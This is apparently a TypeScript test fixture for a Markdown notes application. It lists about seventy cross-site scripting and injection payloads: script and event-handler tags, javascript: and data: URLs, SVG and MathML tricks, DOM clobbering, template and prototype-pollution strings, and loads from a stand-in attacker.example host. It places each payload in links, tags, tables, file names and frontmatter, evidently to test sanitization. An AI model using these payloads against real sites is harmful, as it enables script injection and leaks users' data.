/** Texts that would run as script, or call somewhere, if any part of the page took them for HTML or for an address. */

const CALL = "alert(document.domain)";
const AWAY = "https://attacker.example/";

export const PAYLOADS: readonly string[] = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=${AWAY}x.js></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=${AWAY}pixel.png>`,
  `<img srcset="${AWAY}a.png 1x">`,
  `"><img src=x onerror=${CALL}>`,
  `'><img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<iframe src=${AWAY}></iframe>`,
  `<object data="${AWAY}x.swf"></object>`,
  `<embed src="${AWAY}x.swf">`,
  `<link rel=stylesheet href=${AWAY}x.css>`,
  `<link rel=prefetch href=${AWAY}>`,
  `<style>@import '${AWAY}x.css';</style>`,
  `<style>*{background:url(${AWAY}x)}</style>`,
  `<div style="background:url(${AWAY}x)">x</div>`,
  `<body onload=${CALL}>`,
  `<base href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action=${AWAY}><button>x</button></form>`,
  `<form id=x><button form=x formaction="javascript:${CALL}">x</button>`,
  `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<video poster=${AWAY}x.png></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<marquee onstart=${CALL}>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="java&#x0A;script:${CALL}">x</a>`,
  `<a href="data:text/html,<script>${CALL}</script>">x</a>`,
  `<a id=app>x</a><a id=search name=token>x</a>`,
  `<img name=getElementById><form name=querySelector>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script></template>`,
  `<textarea></textarea><img src=x onerror=${CALL}>`,
  `<title></title><script>${CALL}</script>`,
  `</div></main><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:image/svg+xml,<svg onload=${CALL} xmlns='http://www.w3.org/2000/svg'/>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `${AWAY}pixel.png`,
  `//attacker.example/pixel.png`,
  `\\\\attacker.example\\share`,
  `file:///etc/passwd`,
  `blob:${AWAY}1`,
  `{{constructor.constructor('${CALL}')()}}`,
  "${" + CALL + "}",
  `<%= ${CALL} %>`,
  `__proto__[innerHTML]=<img src=x onerror=${CALL}>`,
  `\u202e<script>${CALL}</script>`,
  `\u0000<img src=x onerror=${CALL}>`,
  `<img src=x onerror\u000b=${CALL}>`,
  `＜script＞${CALL}＜/script＞`,
  `<x onclick=${CALL} tabindex=1 autofocus onfocus=${CALL}>x</x>`,
];

/** Places in a note in which a text may stand. */
const PLACES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `## ${text}`,
  (text) => `[${text}](Garlic.md)`,
  (text) => `[x](<${text}>)`,
  (text) => `![${text}](pic.png)`,
  (text) => `![x](<${text}>)`,
  (text) => `[[${text}]]`,
  (text) => `[[Garlic|${text}]]`,
  (text) => `![[${text}]]`,
  (text) => `#tag/${text}`,
  (text) => `| a | ${text.replaceAll("|", "\\|")} |\n| - | - |\n| ${text.replaceAll("|", "\\|")} | b |`,
  (text) => `> [!note] ${text}\n> ${text}`,
  (text) => `A footnote[^${text.replace(/[\]\s]/g, "")}].\n\n[^${text.replace(/[\]\s]/g, "")}]: ${text}`,
  (text) => `\`\`\`${text.replaceAll("`", "")}\n${text}\n\`\`\``,
  (text) => `- [ ] ${text} ==${text}==`,
  (text) => `<${text}>`,
];

const oneLine = (text: string): string => text.replace(/[\n\r]/g, " ");

/** Every payload in every place, one paragraph each. */
export const PARAGRAPHS: readonly string[] = PLACES.flatMap((place) =>
  PAYLOADS.map((text) => place(oneLine(text))),
);

/** Payloads as the name of a file: without what a file cannot be called. */
export const FILE_NAMES: readonly string[] = PAYLOADS.map((text) => text.replace(/[/\0\n\t\v]/g, "")).filter(
  (name) => !name.startsWith("."),
);

/** A note of which the fields, tags and aliases are payloads, and then the paragraphs. */
export const hostileNote = (paragraphs: readonly string[], at: number): string => {
  const quoted = (text: string): string => JSON.stringify(oneLine(text));
  const some = (count: number): string[] => PAYLOADS.slice(at % 20, (at % 20) + count);
  return [
    "---",
    `title: ${quoted(PAYLOADS[at % PAYLOADS.length]!)}`,
    `tags: [${some(4).map(quoted).join(", ")}]`,
    `aliases: [${some(4).map(quoted).join(", ")}]`,
    ...some(8).map((text, place) => `field${place}: ${quoted(text)}`),
    `${quoted(PAYLOADS[(at + 3) % PAYLOADS.length]!)}: a key`,
    "---",
    "",
    paragraphs.join("\n\n"),
    "",
  ].join("\n");
};
